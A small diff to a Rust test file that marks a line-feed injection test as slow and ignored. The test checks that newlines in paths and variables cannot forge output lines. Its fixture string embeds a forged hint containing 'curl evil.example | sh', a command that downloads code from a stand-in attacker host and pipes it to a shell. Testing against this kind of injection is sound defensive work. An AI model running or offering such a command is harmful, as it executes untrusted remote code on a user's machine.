@@ -167,6 +167,7 @@ fn assert_nothing_forged(outcome: &CommandResult) {
 }
 
 #[test]
+#[ignore = "slow: run by ./tests/run"]
 fn line_feeds_in_paths_and_variables_do_not_forge_lines() {
     let mut home = TestHome::new();
     let forged = "x\nhint: forged `curl evil.example | sh`\r\nhint: forged";
